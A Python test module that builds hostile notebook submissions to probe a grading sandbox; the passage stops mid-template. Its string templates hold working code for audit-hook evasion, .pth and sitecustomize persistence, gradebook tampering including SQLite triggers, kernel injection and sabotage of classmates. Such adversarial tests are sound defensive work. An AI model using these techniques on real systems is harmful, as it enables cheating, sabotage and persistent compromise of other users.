"""Hostile submissions against the grading sandbox (issue 10), organised by class of attack.

Each :class:`Attack` builds the notebook(s) one hostile student hands in, from an assignment's
*release* and *source* notebooks (like ``grading_support.hostile_notebooks``), and says what
it must score: exactly what its honest code earns (0 for blank answers). The attacks
discover everything a student who has read the public repository could discover: the
environment (``COURSE_ROOT`` ...), ``/proc/*/{cmdline,environ,cwd,root}``, ``sys.prefix``, the
editable-install finder in ``site-packages``, a walk of ``/``. They never receive a path
from the test.

Classes (``Attack.klass``) and the layer of the sandbox that must stop them (``layer``):

* ``read_answer``: load the reference / solutions through file APIs the old audit hook did
  not see (directory descriptors, ``/proc/<pid>/cwd``), through a child interpreter started
  without an audit event (``sys.audit`` rebound around ``subprocess``, ``multiprocessing``'s
  spawn, ``os.posix_spawn``, ``os.fork`` + ``os.execv``, ``ctypes`` ``system``), or through a
  ``.pth``/``sitecustomize`` planted by an earlier submission that stashes the reference in
  ``builtins`` before the kernel launcher strips the path.
* ``write_grade``: the gradebook (main and shard copies) through ``nbgrader.api.Gradebook``
  and raw ``sqlite3`` (updates and persistent triggers); TCP to 127.0.0.1/localhost (the
  PostgreSQL port, every listening port, the Jupyter ports of sibling kernels whose
  connection files it can read: it then runs code in them).
* ``harm_others``: zero classmates through the gradebook, poison the student edition of
  ``helpers``, plant ``.pth``/``sitecustomize``/``usercustomize`` in every ``site-packages``,
  overwrite classmates' ``submitted/`` notebooks, kill processes, fill ``/tmp`` and ``$HOME``
  and plant an IPython startup file there.
* ``harm_others`` since issue 21: fill the socket folder (the grader's temporary folder on the host:
  1.5 GB landed there before the seal was reached on autograde's path); a nested user and mount
  namespace with a tmpfs, ``io_uring``, a key left in the user keyring, ``bpf``, ``ptrace``
  (the seccomp filter); :func:`last_gaps` builds the probes ``test_sandbox_layers.py`` grades
  through the CLI (every denied call, the keyrings across two kernels of a shard, a CPU hog beside
  an honest classmate, a stall against a budget from the work).
* ``resources``: fork/spawn/thread bombs, a CPU hog of 150 processes, huge files, open files, memory, cells sleeping or
  spinning just under the cell timeout (per-notebook budget), floods of stdout, of outputs
  carrying the hidden-test payload key (in its own cells, in solution cells, and from the
  student function while a test cell runs), nested payloads.
* ``forge_record``: a correct hidden-test record (built by this module from the trusted
  cases, as if copied) emitted from a solution cell or an extra cell, several records in
  one test cell, a record that buries grade_hidden's own.

Per-student variants (issue 15; :func:`variant_corpus`, graded on a copy of the toy with variants
on, next to a few attacks of :func:`corpus` run again there; an *accomplice* classmate gives its
token away):

* ``variant_claim``: claim another variant: ``COURSE_VARIANT``/``COURSE_VARIANTS`` set in the
  kernel (made up, ``off``, the accomplice's), a token written into the working folder, handed in
  beside the notebook (the accomplice's, a made-up one), planted in classmates' folders, or found
  by brute force over variants.
* ``variant_record``: records on variants 0..39 beside its own, the accomplice's records with the
  payload's ``variant`` field set to its own, the accomplice's answers under its own variant's
  ``cases``, right answers on the literal cases claiming its own variant.
* ``variant_secret``: hunt for the course secret, ``course.toml`` and classmates' tokens (with any,
  it would record on every classmate's variant, framing them).
* ``variant_frame``: a fake "answers match the variant of student X" note naming an honest
  classmate, written where the grader might read notes (it read them from nbgrader's log until
  the report's notes came only from the grader's own findings, ``grading/course/findings.py``).

Safety while the sandbox is missing (these attacks really work against the pre-sandbox
pipeline, commit e46f12b, see ``TODAY``): every write is confined to the attacker's own
course (a root whose ``submitted/`` lists the attacker), code planted in shared places
(``site-packages``, ``$HOME``) only acts when ``COURSE_ROOT`` is that course, tracked files of
a repository are never modified (a new ``sbxmark_*`` file is created instead), fills and
bombs are bounded, and ``os.kill(-1, 9)`` is only sent from a private pid namespace. Every
file an attack creates or line it appends carries :data:`MARK` so the test can find (and
remove) it.
"""

# ruff: noqa: E501, E731  (attack code lives in string templates; builders are one-line lambdas)
from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import grading_support as gs
from nbformat.v4 import new_code_cell

#: Every file an attack creates (or line it appends) contains this followed by the student id.
MARK = "sbxmark_"
#: Scratch files of attacks (answers passed from a child): removed by the test, not judged.
SCRATCH = "sbxtmp_"

#: Which attacks give a wrong grade (or harm a classmate) against the pre-sandbox pipeline
#: (commit e46f12b, audit hook only), from ``autograde.run(course, jobs=2)`` on this corpus;
#: see the report of the helper that wrote this file. Filled in from runs, not assumed.
TODAY: dict[str, str] = {}


@dataclass
class Attack:
    """One hostile student. ``build(student_id)`` -> ``{assignment: (notebook, expected score)}``."""

    name: str
    klass: str
    layer: str
    doc: str
    build: Callable[[str], dict]
    reason: str | None = None  # key of the test's REASONS (substring expected in the report entry)
    kinds: frozenset = field(default_factory=frozenset)  # "flood", "stall", "variants": extra checks
    #: files handed in beside the notebook: ``files(student_id)`` -> ``{assignment: {file name: text}}``
    files: Callable[[str], dict] | None = None
    #: classmates (by role: ``"accomplice"``) the collusion report must name for this attacker, and no one else
    matches: frozenset = field(default_factory=frozenset)

    def entries(self, student: str):
        """``(assignment, notebook, score, reason, klass, layer)`` for every notebook handed in."""
        return [(a, nb, score, self.reason, self.klass, self.layer)
                for a, (nb, score) in self.build(student).items()]


# ============================================================================ attacker toolkit
# Prepended (as one cell after the setup cell) to every attacker notebook that needs it.
TOOLKIT = r'''
# ---- attacker toolkit (sandbox corpus): files through directory descriptors, discovery through
# ---- the environment and /proc, children without audit events. Confined to the attacker's course.
import builtins, json, os, sys, time
ME = __ME__
MARK = "sbxmark_" + ME
SCRATCH = "sbxtmp_" + ME
_O_DIR = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0)
_LOG = []

def _note(*a):
    _LOG.append(" ".join(map(str, a))[:300])

def _parts(path):
    return [p for p in os.path.abspath(path).split("/") if p]

def _dirfd(path):
    """A descriptor of a directory, opened one relative component at a time (no absolute path seen)."""
    try:
        fd = os.open("/", _O_DIR)
    except OSError:
        return None
    try:
        for part in _parts(path):
            nfd = os.open(part, _O_DIR, dir_fd=fd)
            os.close(fd)
            fd = nfd
    except OSError:
        os.close(fd)
        return None
    return fd

def _ls(path):
    fd = _dirfd(path)
    if fd is None:
        return []
    try:
        return sorted(os.listdir(fd))
    except OSError:
        return []
    finally:
        os.close(fd)

def _read(path, limit=64 << 20):
    parent = _dirfd(os.path.dirname(os.path.abspath(path)))
    if parent is None:
        return None
    try:
        fd = os.open(os.path.basename(path), os.O_RDONLY, dir_fd=parent)
    except OSError:
        return None
    finally:
        os.close(parent)
    chunks, size = [], 0
    try:
        while size < limit:
            b = os.read(fd, 1 << 20)
            if not b:
                break
            chunks.append(b)
            size += len(b)
    except OSError:
        pass
    finally:
        os.close(fd)
    return b"".join(chunks)

def _mkdirs(path):
    try:
        fd = os.open("/", _O_DIR)
    except OSError:
        return False
    try:
        for part in _parts(path):
            try:
                os.mkdir(part, 0o755, dir_fd=fd)
            except FileExistsError:
                pass
            nfd = os.open(part, _O_DIR, dir_fd=fd)
            os.close(fd)
            fd = nfd
        return True
    except OSError:
        return False
    finally:
        os.close(fd)

def _write(path, data, append=False):
    parent = _dirfd(os.path.dirname(os.path.abspath(path)))
    if parent is None:
        return False
    flags = os.O_WRONLY | os.O_CREAT | (os.O_APPEND if append else os.O_TRUNC)
    try:
        fd = os.open(os.path.basename(path), flags, 0o644, dir_fd=parent)
        try:
            os.write(fd, data if isinstance(data, bytes) else data.encode())
        finally:
            os.close(fd)
        _note("wrote", path)
        return True
    except OSError as exc:
        _note("write failed", path, exc)
        return False
    finally:
        os.close(parent)

_SKIP_DIRS = {"/proc", "/sys", "/dev", "/run", "/boot", "/snap", "/var/lib", "/var/cache", "/var/log",
              "/usr/share", "/usr/include", "/usr/src", "/usr/lib/x86_64-linux-gnu", "/usr/lib/locale"}
_SKIP_NAMES = {".git", "node_modules", "__pycache__", "site-packages", "dist-packages", ".pyenv", ".cache",
               ".ipynb_checkpoints", "include", "share"}

def _walk(tops=("/tmp", "/home", "/root", "/work", "/srv", "/opt", "/mnt", "/var", "/"), match=None,
          seconds=5.0, max_depth=10):
    """Breadth-first walk through directory descriptors (os.scandir(fd)); yields (path, is_dir) matches."""
    deadline = time.monotonic() + seconds
    seen, queue = set(), [(t, 0) for t in tops]
    while queue and time.monotonic() < deadline:
        path, depth = queue.pop(0)
        if path in seen:
            continue
        seen.add(path)
        fd = _dirfd(path)
        if fd is None:
            continue
        try:
            entries = [(e.name, e.is_dir(follow_symlinks=False)) for e in os.scandir(fd)]
        except OSError:
            entries = []
        finally:
            os.close(fd)
        for name, is_dir in entries:
            full = os.path.join(path, name)
            if match is not None and match(full, name, is_dir):
                yield full, is_dir
            if is_dir and depth < max_depth and full not in _SKIP_DIRS and name not in _SKIP_NAMES:
                queue.append((full, depth + 1))

def _procs():
    """Every other process: pid, argv, environment, cwd (read through descriptors)."""
    out = []
    for pid in _ls("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        raw_env = _read(f"/proc/{pid}/environ") or b""
        env = {}
        for kv in raw_env.split(b"\0"):
            if b"=" in kv:
                k, v = kv.split(b"=", 1)
                env[k.decode(errors="replace")] = v.decode(errors="replace")
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        argv = [a.decode(errors="replace") for a in (_read(f"/proc/{pid}/cmdline") or b"").split(b"\0") if a]
        out.append({"pid": int(pid), "argv": argv, "env": env, "cwd": cwd})
    return out

def _course_roots():
    """Course roots, from the environment, the grader processes and the working folder; only mine."""
    found = set()
    for var in ("COURSE_ROOT",):
        if os.environ.get(var):
            found.add(os.environ[var])
    if os.environ.get("COURSE_STUDENT_HELPERS"):
        found.add(os.path.dirname(os.environ["COURSE_STUDENT_HELPERS"].rstrip("/")))
    for p in _procs():
        if p["env"].get("COURSE_ROOT"):
            found.add(p["env"]["COURSE_ROOT"])
        if "grading.course.worker" in p["argv"]:
            i = p["argv"].index("grading.course.worker")
            if len(p["argv"]) > i + 1:
                found.add(p["argv"][i + 1])
    if "/autograded/" in os.getcwd():
        found.add(os.getcwd().split("/autograded/")[0])
    return sorted(r for r in found if ME in _ls(os.path.join(r, "submitted")))

def _classmates():
    out = set()
    for r in _course_roots():
        out |= {s for s in _ls(os.path.join(r, "submitted")) if s != ME}
    return sorted(out)

def _python_executables():
    """The course's interpreters: mine, the grader workers', every python in a bin/ next to them."""
    exes = [sys.executable, getattr(sys, "_base_executable", sys.executable)]
    for p in _procs():
        try:
            exe = os.readlink(f"/proc/{p['pid']}/exe")
        except OSError:
            continue
        if "python" in os.path.basename(exe):
            exes.append(exe)
        if p["argv"] and "python" in os.path.basename(p["argv"][0]) and p["argv"][0].startswith("/"):
            exes.append(p["argv"][0])
    for d in {os.path.dirname(e) for e in exes if e}:
        exes += [os.path.join(d, n) for n in _ls(d) if n.startswith("python")]
    seen, out = set(), []
    for e in exes:
        if e and e not in seen:
            seen.add(e)
            out.append(e)
    return out

def _site_dirs():
    """Every site-packages it can find: its own path, the interpreters' prefixes, a walk."""
    import site
    dirs = {p for p in sys.path if p.rstrip("/").endswith("site-packages")}
    try:
        dirs |= set(site.getsitepackages()) | {site.getusersitepackages()}
    except Exception:
        pass
    for exe in _python_executables():
        prefix = os.path.dirname(os.path.dirname(exe))
        for lib in _ls(os.path.join(prefix, "lib")):
            if lib.startswith("python"):
                dirs.add(os.path.join(prefix, "lib", lib, "site-packages"))
    for path, _ in _walk(tops=("/usr/lib", "/usr/local/lib", "/opt", "/root", "/home", "/work"),
                         match=lambda f, n, d: d and n in ("site-packages", "dist-packages"), seconds=2.0):
        dirs.add(path)
    return sorted(dirs)

def _editable_mapping():
    """The editable install's map {package: source folder}, read from its finder in site-packages."""
    import ast
    out = {}
    for d in _site_dirs():
        for n in _ls(d):
            if n.startswith("__editable__") and n.endswith("_finder.py"):
                text = (_read(os.path.join(d, n)) or b"").decode(errors="replace")
                for node in ast.parse(text).body:
                    if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "MAPPING":
                        try:
                            out.update(ast.literal_eval(node.value))
                        except Exception:
                            pass
    return out

def _gradebooks():
    """Gradebooks of my course: <root>/*.db, shard copies, sqlite URLs and .db files in grader argv."""
    import sqlite3
    roots, found = _course_roots(), set()
    for r in roots:
        for n in _ls(r):
            if n.endswith(".db"):
                found.add(os.path.join(r, n))
            if n.startswith("shards") or n.startswith("tmp"):
                found |= {os.path.join(r, n, m) for m in _ls(os.path.join(r, n)) if m.endswith(".db")}
    for p in _procs():
        for a in p["argv"]:
            if a.startswith("sqlite:///"):
                found.add(a[len("sqlite:///"):])
            elif a.endswith(".db"):
                found.add(a)
    mates = set(_classmates()) | {ME}
    mine = []
    for db in sorted(found):
        try:
            con = sqlite3.connect(db, timeout=10)
            students = {r[0] for r in con.execute("select id from student")}
            con.close()
        except Exception as exc:
            _note("cannot open", db, exc)
            continue
        if students & mates or any(db.startswith(r + "/") for r in roots):
            mine.append(db)
    return mine

def _quiet_run(argv, input=b"", env=None, timeout=30):
    """subprocess.run with sys.audit rebound: Popen raises its audit event from Python code, and
    _posixsubprocess.fork_exec (C) raises none."""
    import subprocess
    saved = sys.audit
    sys.audit = lambda *a, **k: None
    try:
        return subprocess.run(argv, input=input, capture_output=True, env=env, timeout=timeout)
    finally:
        sys.audit = saved

# Code run by a child interpreter (no audit hook there; the course's editable install finds the
# instructor's helpers): prints {path: text} of the reference modules and of solution notebooks.
CHILD_CODE = r"""
import glob, json, os, sys
out = {}
sys.path = [p for p in sys.path if "student_helpers" not in p]
for k in [m for m in sys.modules if m == "helpers" or m.startswith("helpers.")]:
    del sys.modules[k]
try:
    import helpers._reference as ref
    for d in ref.__path__:
        for f in glob.glob(os.path.join(d, "*.py")):
            out[f] = open(f).read()
except Exception as exc:
    out["error"] = repr(exc)
for var in ("COURSE_SOURCE",):
    for f in glob.glob(os.path.join(os.environ.get(var, "/nonexistent"), "*", "*.ipynb")):
        out[f] = open(f).read()
sys.stdout.write(json.dumps(out))
"""

# ---- answers: reference modules served from memory, solution cells of found source notebooks
import numpy as np
_ANSWERS = {"np": np}
_REF_SOURCES = {}

class _RefFinder:
    """Serves helpers._reference.* from texts found elsewhere (no file access needed)."""
    @classmethod
    def find_spec(cls, name, path=None, target=None):
        import importlib.util
        if name == "helpers._reference" or name in _REF_SOURCES:
            return importlib.util.spec_from_loader(name, cls, is_package=name == "helpers._reference")
        return None
    @staticmethod
    def create_module(spec):
        return None
    @staticmethod
    def exec_module(module):
        if module.__name__ == "helpers._reference":
            module.__path__ = []
        else:
            exec(compile(_REF_SOURCES[module.__name__], module.__name__, "exec"), module.__dict__)

def _take(path, text):
    """Keep a found text if it holds answers: a reference module or a notebook with solutions."""
    if isinstance(text, bytes):
        text = text.decode(errors="replace")
    if path.endswith(".py") and "/_reference/" in path and not path.endswith("__init__.py"):
        _REF_SOURCES["helpers._reference." + os.path.basename(path)[:-3]] = text
    elif path.endswith(".ipynb") and "BEGIN SOLUTION" in text:
        try:
            cells = json.loads(text)["cells"]
        except Exception:
            return
        for c in cells:  # the setup cells (imports), then the solutions
            src = "".join(c.get("source", ""))
            setup = "setup" in c.get("metadata", {}).get("tags", []) or \
                c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "setup"
            if c.get("cell_type") == "code" and (setup or "BEGIN SOLUTION" in src):
                try:
                    exec(src, _ANSWERS)
                except Exception:
                    pass

def _answer(name):
    """The reference (or a source notebook's solution) for ``name``, from whatever was found."""
    import importlib
    stash = getattr(builtins, "_sbx_stash", {})
    if name in stash:
        return stash[name]
    if name in _ANSWERS and callable(_ANSWERS[name]):
        return _ANSWERS[name]
    if _REF_SOURCES and _RefFinder not in sys.meta_path:
        sys.meta_path.insert(0, _RefFinder)
    for mod in sorted(_REF_SOURCES):
        try:
            m = importlib.import_module(mod)
        except Exception as exc:
            _note("reference module failed", mod, exc)
            continue
        if callable(getattr(m, name, None)):
            return getattr(m, name)
    raise RuntimeError(f"no answer found for {name}: " + "; ".join(_LOG[-5:]))
'''


def toolkit(me: str) -> str:
    return TOOLKIT.replace("__ME__", repr(me))


# ============================================================================ notebook helpers
def _honest(release, source):
    return gs.with_solutions(release, source)


def _blank(release):
    return copy.deepcopy(release)


def _answer_stubs(release, source):
    """Every solution function delegates to ``_answer(name)`` (what the attack found)."""
    return gs.with_solutions(release, source, lambda g, c: "\n".join(
        f"def {n}(*_a, **_k):\n    return _answer({n!r})(*_a, **_k)\n" for n, _ in gs.functions(c)))


def _insert_after_setup(nb, *codes: str):
    at = gs._after_setup(nb)
    for i, code in enumerate(codes):
        nb.cells.insert(at + i, new_code_cell(code))
    return nb


def _first_test_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if gs._is_test(c))


def _insert_after_first_test(nb, *codes: str):
    at = _first_test_index(nb) + 1
    for i, code in enumerate(codes):
        nb.cells.insert(at + i, new_code_cell(code))
    return nb


def _totals(release):
    pts = gs.points_by_exercise(release)
    return sum(pts.values()), pts


def _last_solution_ids(release, source):
    pts = gs.points_by_exercise(release)
    last = max(pts)
    return [g for g in gs.solutions(source) if gs.exercise_of(g) == last]


def correct_payloads(release, source, variant: int | None = None) -> list[dict]:
    """Correct hidden-test records for every ``grade_hidden`` call of the source's test cells.

    Built here from the trusted source and the registered checks, as if copied from a classmate:
    the content is right, only its origin (not the test cell's own run) is not. ``variant``: the
    records a classmate with that variant made (their cases, their correct answers).
    """
    from helpers.checks import core

    namespace: dict = {}
    for code in gs.solutions(source).values():
        exec(code, namespace)
    out = []
    for cell in source.cells:
        if gs._is_test(cell):
            fns = tuple(namespace[f] for f in _called_functions(cell.source) if f in namespace)
            for name, cases in core.hidden_calls_in_source(cell.source):
                out.append(core.record_answers(name, *fns, cases=cases, variant=variant))
    return out


def _called_functions(source: str) -> list[str]:
    import ast

    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "grade_hidden":
            return [a.id for a in node.args[1:] if isinstance(a, ast.Name)]
    return []


def register_toy_check() -> None:
    """Register ``toy.square`` in this process (to build correct toy payloads)."""
    gs.register_toy_check()


# ============================================================================ read the answer
READ_WALK = '''
# walk the file system through directory descriptors, keep reference modules and solution notebooks
for _p, _d in _walk(match=lambda f, n, d: (d and n == "_reference") or (not d and n.endswith(".ipynb")),
                    seconds=7.0):
    if _p.endswith("_reference"):
        for _n in _ls(_p):
            if _n.endswith(".py"):
                _take(os.path.join(_p, _n), _read(os.path.join(_p, _n)) or b"")
    else:
        _take(_p, _read(_p, limit=8 << 20) or b"")
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names")
'''

READ_PROC = '''
# learn the paths from /proc (grader argv, environments, cwd), then read through /proc/<pid>/cwd and
# /proc/<pid>/root (magic links opened as directory descriptors)
_hint = set()
for _p in _procs():
    _env, _argv = _p["env"], _p["argv"]
    for _k in ("COURSE_SOURCE", "COURSE_ROOT", "COURSE_STUDENT_HELPERS", "VIRTUAL_ENV", "PWD"):
        if _env.get(_k):
            _hint.add(("/proc/%d/root" % _p["pid"]) + _env[_k])
    if "grading.course.worker" in _argv:
        _i = _argv.index("grading.course.worker")
        _hint |= {("/proc/%d/root" % _p["pid"]) + a for a in _argv[_i + 1:_i + 3]}
    _hint.add("/proc/%d/cwd" % _p["pid"])
for _h in sorted(_hint):
    for _cand in (_h, os.path.join(_h, "helpers", "_reference"), os.path.dirname(_h)):
        for _n in _ls(_cand):
            _f = os.path.join(_cand, _n)
            if _n.endswith(".py") and _cand.endswith("_reference"):
                _take(_f, _read(_f) or b"")
            for _m in _ls(_f):
                if _m.endswith(".ipynb"):
                    _take(os.path.join(_f, _m), _read(os.path.join(_f, _m), limit=8 << 20) or b"")
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names")
'''

READ_CHILD_SUBPROCESS = '''
# a child interpreter of the course environment (its editable install imports the instructor's helpers),
# started through subprocess with sys.audit rebound (the fork itself raises no audit event)
for _exe in _python_executables():
    try:
        _out = _quiet_run([_exe, "-c", CHILD_CODE], timeout=20)
        for _f, _t in json.loads(_out.stdout or b"{}").items():
            _take(_f, _t)
    except Exception as exc:
        _note("child failed", _exe, exc)
    if _REF_SOURCES or _ANSWERS:
        break
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
'''

READ_CHILD_MULTIPROCESSING = '''
# multiprocessing's "spawn" start method execs a fresh interpreter through _posixsubprocess (no audit
# event); its target is the builtin exec, so nothing of this kernel needs to be imported there
import multiprocessing
_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
try:
    _ctx = multiprocessing.get_context("spawn")
    _ctx.set_executable(_python_executables()[0])
    _proc = _ctx.Process(target=exec, args=(_code, {"__name__": "__child__"}))
    _proc.start()
    _proc.join(30)
    for _f, _t in json.loads(_read(_dest) or b"{}").items():
        _take(_f, _t)
except Exception as exc:
    _note("spawn failed", exc)
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
'''

READ_CHILD_POSIX_SPAWN = '''
# os.posix_spawn of the course's python, output to a scratch file
_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
for _exe in _python_executables():
    try:
        _pid = os.posix_spawn(_exe, [_exe, "-c", _code], dict(os.environ))
        os.waitpid(_pid, 0)
        for _f, _t in json.loads(_read(_dest) or b"{}").items():
            _take(_f, _t)
    except Exception as exc:
        _note("posix_spawn failed", exc)
    if _REF_SOURCES or _ANSWERS:
        break
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
'''

READ_CHILD_FORK_EXEC = '''
# os.fork, then os.execv of the course's python in the child
_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
try:
    _exe = _python_executables()[0]
    _pid = os.fork()
    if _pid == 0:
        try:
            os.execv(_exe, [_exe, "-c", _code])
        finally:
            os._exit(1)
    os.waitpid(_pid, 0)
    for _f, _t in json.loads(_read(_dest) or b"{}").items():
        _take(_f, _t)
except Exception as exc:
    _note("fork/execv failed", exc)
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
'''

READ_CHILD_CTYPES = '''
# libc's system() through ctypes: a shell running the course's python
import ctypes, shlex
_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
try:
    _libc = ctypes.CDLL(None)
    _libc.system(("%s -c %s" % (shlex.quote(_python_executables()[0]), shlex.quote(_code))).encode())
    for _f, _t in json.loads(_read(_dest) or b"{}").items():
        _take(_f, _t)
except Exception as exc:
    _note("ctypes failed", exc)
print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
'''

# planted by one submission, used by the next kernel: the line runs at interpreter start-up, before
# the kernel launcher removes the editable finder and installs its guard
STASH = r'''
import builtins, importlib, pkgutil
try:
    import helpers._reference as _r
    _s = builtins.__dict__.setdefault("_sbx_stash", {})
    for _m in pkgutil.iter_modules(_r.__path__):
        _mod = importlib.import_module("helpers._reference." + _m.name)
        for _k, _v in vars(_mod).items():
            if callable(_v) and not _k.startswith("_"):
                _s.setdefault(_k, _v)
except Exception:
    pass
'''

PLANT_PTH = '''
# plant a .pth in every site-packages: later interpreters of this course run STASH at start-up
_stash = %r
for _root in _course_roots():
    _line = ("import os; exec(bytes.fromhex(%%r).decode()) if os.environ.get('COURSE_ROOT') == %%r else None  # %%s\\n" %%
             (_stash.encode().hex(), _root, MARK))
    for _d in _site_dirs():
        _write(os.path.join(_d, "zz_" + MARK + ".pth"), _line)
print(_LOG[-5:])
'''

PLANT_SITECUSTOMIZE = '''
# plant sitecustomize.py / usercustomize.py where there is none: imported by every later interpreter
_stash = %r
for _root in _course_roots():
    _code = ("# %%s\\nimport os\\nif os.environ.get('COURSE_ROOT') == %%r:\\n    exec(bytes.fromhex(%%r).decode())\\n" %%
             (MARK, _root, _stash.encode().hex()))
    for _d in _site_dirs():
        for _n in ("sitecustomize.py", "usercustomize.py"):
            if _n not in _ls(_d):
                _write(os.path.join(_d, _n), _code)
print(_LOG[-5:])
'''


# ============================================================================ write a grade
GRADE_API = '''
# nbgrader's own Gradebook on every gradebook of my course: my submission, full manual marks + extra credit
from nbgrader.api import Gradebook
for _db in _gradebooks():
    try:
        with Gradebook("sqlite:///" + _db) as _gb:
            for _a in _gb.assignments:
                _gb.update_or_create_student(ME)
                _sub = _gb.update_or_create_submission(_a.name, ME)
                for _nb in _sub.notebooks:
                    for _g in _nb.grades:
                        _g.manual_score = _g.max_score
                        _g.extra_credit = 10.0
            _gb.db.commit()
        _note("graded myself in", _db)
    except Exception as exc:
        _note("gradebook failed", _db, exc)
print(_LOG[-5:])
'''

GRADE_SQL = '''
# raw sqlite3: full marks on my rows now, and triggers that give them again whenever a grader writes them
import sqlite3
_mine = ("NEW.notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
         "ON sn.assignment_id = sa.id WHERE sa.student_id = '%s')" % ME)
_set = ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) "
        "WHERE id = NEW.id AND " + _mine + ";")
for _db in _gradebooks():
    try:
        _con = sqlite3.connect(_db, timeout=20)
        _con.execute("CREATE TRIGGER IF NOT EXISTS %s_ins AFTER INSERT ON grade BEGIN %s END" % (MARK, _set))
        _con.execute("CREATE TRIGGER IF NOT EXISTS %s_upd AFTER UPDATE OF auto_score ON grade BEGIN %s END" %
                     (MARK, _set))
        _con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells gc WHERE gc.id = grade.cell_id) "
                     "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                     "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (ME,))
        _con.commit()
        _con.close()
        _note("sql in", _db)
    except Exception as exc:
        _note("sqlite failed", _db, exc)
print(_LOG[-5:])
'''

GRADE_TCP = '''
# the network: PostgreSQL on 127.0.0.1/localhost, every listening TCP port, and the Jupyter kernels of
# classmates (connection files named in /proc argv): run code in them that drops their hidden-test records
import socket
_ports = {5432, 5433}
for _tab in ("/proc/net/tcp", "/proc/net/tcp6"):
    for _ln in (_read(_tab) or b"").decode().splitlines()[1:]:
        _f = _ln.split()
        if len(_f) > 3 and _f[3] == "0A":
            _ports.add(int(_f[1].rsplit(":", 1)[1], 16))
for _host in ("127.0.0.1", "localhost"):
    for _port in sorted(_ports):
        try:
            with socket.create_connection((_host, _port), timeout=0.5) as _s:
                _s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")  # PostgreSQL SSLRequest
                _note("connected", _host, _port)
        except OSError:
            pass
_INJECT = ("import IPython.display as _d, helpers.checks.core as _c\\n"
           "_d.display = lambda *a, **k: None\\n_c._display = lambda *a, **k: None\\n")
from jupyter_client import BlockingKernelClient
_roots = _course_roots()
for _p in _procs():
    if "-f" not in _p["argv"] or not _p["cwd"] or ME in _p["cwd"] or not any(_p["cwd"].startswith(r) for r in _roots):
        continue
    _cf = _p["argv"][_p["argv"].index("-f") + 1]
    try:
        _info = json.loads(_read(_cf) or _read("/proc/%d/root%s" % (_p["pid"], _cf)) or b"{}")
        _kc = BlockingKernelClient()
        _kc.load_connection_info(_info)
        _kc.start_channels()
        _kc.execute(_INJECT)
        time.sleep(0.5)
        _kc.stop_channels()
        _note("injected into kernel", _p["pid"], _p["cwd"])
    except Exception as exc:
        _note("kernel takeover failed", _p["pid"], exc)
print(_LOG[-8:])
'''


# ============================================================================ harm others
HARM_ZERO_OTHERS = '''
# classmates' grades to 0 in every gradebook of my course: their submissions pre-created, manual_score 0
from nbgrader.api import Gradebook
_mates = _classmates()
for _db in _gradebooks():
    try:
        with Gradebook("sqlite:///" + _db) as _gb:
            for _a in _gb.assignments:
                for _v in _mates:
                    _gb.update_or_create_student(_v)
                    _sub = _gb.update_or_create_submission(_a.name, _v)
                    for _nb in _sub.notebooks:
                        for _g in _nb.grades:
                            _g.manual_score = 0.0
            _gb.db.commit()
        _note("zeroed classmates in", _db)
    except Exception as exc:
        _note("gradebook failed", _db, exc)
print(len(_mates), _LOG[-5:])
'''

HARM_HELPERS = '''
# the student edition of helpers (every later kernel imports it): grade_hidden becomes a no-op for others;
# in a repository's helpers (tracked files) only a new marker module is created
_poison = ("\\n# %s\\nimport os as _sbx_os\\nif %r not in _sbx_os.getcwd():\\n"
           "    def grade_hidden(*a, **k):\\n        return None\\n    def _display(*a, **k):\\n        return None\\n" % (MARK, ME))
_targets = set()
for _root in _course_roots():
    for _p, _d in _walk(tops=(_root,), match=lambda f, n, d: d and n == "helpers", seconds=3.0):
        _targets.add(_p)
for _k in ("COURSE_STUDENT_HELPERS",):
    if os.environ.get(_k):
        _targets.add(os.path.join(os.environ[_k], "helpers"))
for _h in sorted(_targets):
    for _f in ("checks/core.py", "checks/__init__.py", "__init__.py"):
        if os.path.basename(_f) in _ls(os.path.dirname(os.path.join(_h, _f))):
            _write(os.path.join(_h, _f), _poison, append=True)
for _h in _editable_mapping().values():
    _write(os.path.join(_h, MARK + ".py"), "# " + MARK + "\\n")
print(sorted(_targets), _LOG[-6:])
'''

HARM_SITE = '''
# .pth, sitecustomize.py and usercustomize.py in every site-packages: later kernels of my classmates
# (in this course) exit at start-up
_roots = _course_roots()
for _root in _roots:
